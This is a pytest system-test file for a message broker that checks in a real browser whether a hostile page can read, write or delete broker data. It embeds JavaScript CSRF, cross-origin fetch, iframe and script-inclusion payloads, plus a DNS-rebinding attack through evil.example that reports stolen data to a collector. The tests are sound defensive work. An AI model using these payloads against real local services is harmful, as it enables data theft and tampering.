"""A real browser: what a hostile page can read and change of a broker on the same machine."""

import json
from http.client import HTTPConnection
from typing import Any

import pytest
from browser import find_browser, serving, visiting

from moldau.testing.broker import Broker
from moldau.testing.waiting import wait_seconds_max

pytestmark = pytest.mark.system

RECORDS = "/api/v1/topics/t/records"
SECRET = "not for pages"

ATTACKS = """
const JSON_BODY = {headers: {"content-type": "application/json"}};
const record = JSON.stringify({records: [{value: "from a page"}]});
const tried = {};
const attempt = async (name, address, options) => {
    try {
        const reply = await fetch(BROKER + address, options);
        tried[name] = [reply.status, await reply.text()];
    } catch (error) { tried[name] = String(error); }
};
await attempt("read", RECORDS + "?offset=earliest");
await attempt("blind read", RECORDS, {mode: "no-cors"});
await attempt("write", RECORDS, {method: "POST", body: record, ...JSON_BODY});
await attempt("blind write", RECORDS, {method: "POST", mode: "no-cors", body: record});
await attempt("delete", "/api/v1/topics/t", {method: "DELETE"});
await attempt("tail", "/api/v1/topics/t/tail?offset=earliest");
const loaded = (element) => new Promise((resolve) => {
    element.onload = () => resolve(true);
    element.onerror = () => resolve(false);
    document.body.append(element);
});
tried.script = await loaded(Object.assign(
    document.createElement("script"), {src: BROKER + RECORDS}));
const frame = Object.assign(document.createElement("iframe"), {src: BROKER + RECORDS, name: "f"});
await loaded(frame);
tried.frame = frame.contentDocument?.body?.innerText ?? "";
const form = Object.assign(document.createElement("form"),
    {method: "POST", action: BROKER + RECORDS, target: "f", enctype: "text/plain"});
const body = {name: record.slice(0, -1), value: "}"};
form.append(Object.assign(document.createElement("input"), body));
document.body.append(form);
const answered = new Promise((resolve) => { frame.onload = resolve; });
form.submit();
await answered;
await report(tried);
"""

REBOUND = """
await report("loaded");
for (;;) {
    try {
        const reply = await fetch("/api/v1/topics/t/records?offset=earliest");
        if (reply.status === 200 || reply.status === 421) {
            await report([reply.status, await reply.text()]);
            break;
        }
    } catch (error) { }
    await new Promise((resolve) => setTimeout(resolve, 50));
}
"""


def ask(broker: Broker, method: str, path: str, body: Any = None) -> Any:
    connection = HTTPConnection(broker.http_address, timeout=wait_seconds_max())
    try:
        sent = None if body is None else json.dumps(body)
        connection.request(method, path, sent, {"content-type": "application/json"})
        response = connection.getresponse()
        assert response.status < 300
        return json.loads(response.read())
    finally:
        connection.close()


def fill(broker: Broker) -> None:
    ask(broker, "POST", "/api/v1/topics", {"name": "t", "partitions": 1})
    ask(broker, "POST", RECORDS, {"records": [{"value": SECRET}]})


def values(broker: Broker) -> list[str]:
    found = ask(broker, "GET", f"{RECORDS}?offset=earliest")
    return [record["value"] for record in found["records"]]


def attack(browser: str, broker: Broker, port: int = 0) -> Any:
    names = f"const BROKER = 'http://{broker.http_address}', RECORDS = '{RECORDS}';"
    with serving(names + ATTACKS, port) as page, visiting(browser, page.address):
        return page.next_report()


def test_a_page_of_another_origin_can_neither_read_nor_write():
    browser = find_browser()
    with Broker() as broker:
        fill(broker)
        tried = attack(browser, broker)
        # Blind requests are sent, and their responses hidden; that they did nothing is seen below.
        for name in ("read", "blind read", "write", "blind write", "delete", "tail"):
            assert tried[name].startswith("TypeError"), (name, tried)
        assert tried["script"] is False
        assert tried["frame"] == ""
        assert SECRET not in json.dumps(tried)
        assert values(broker) == [SECRET]


def test_a_page_whose_origin_is_allowed_can():
    """The same attacks succeed: the browser does send them, and the test above can fail."""
    browser = find_browser()
    with serving() as reserved:
        port = int(reserved.address.rpartition(":")[2])
    with Broker(settings={"HTTP__CORS_ORIGINS": f"http://127.0.0.1:{port}"}) as broker:
        fill(broker)
        tried = attack(browser, broker, port)
        assert tried["read"][0] == 200
        assert SECRET in tried["read"][1]
        assert tried["write"][0] == 200
        assert tried["delete"][0] == 200


def test_a_page_whose_name_is_rebound_to_this_machine_reads_nothing():
    """Its server gives way to the broker at the same address: the browser sees one origin."""
    browser = find_browser()
    broker = Broker()
    with (
        serving() as reports,
        serving(f"globalThis.REPORTS = '{reports.address}';{REBOUND}", broker.http_port) as page,
    ):
        url = f"http://evil.example:{broker.http_port}/"
        with visiting(browser, url, names={"evil.example": "127.0.0.1"}):
            assert reports.next_report() == "loaded"
            page.close()
            with broker:
                fill(broker)
                status, text = reports.next_report()
                assert (status, SECRET in text) == (421, False)
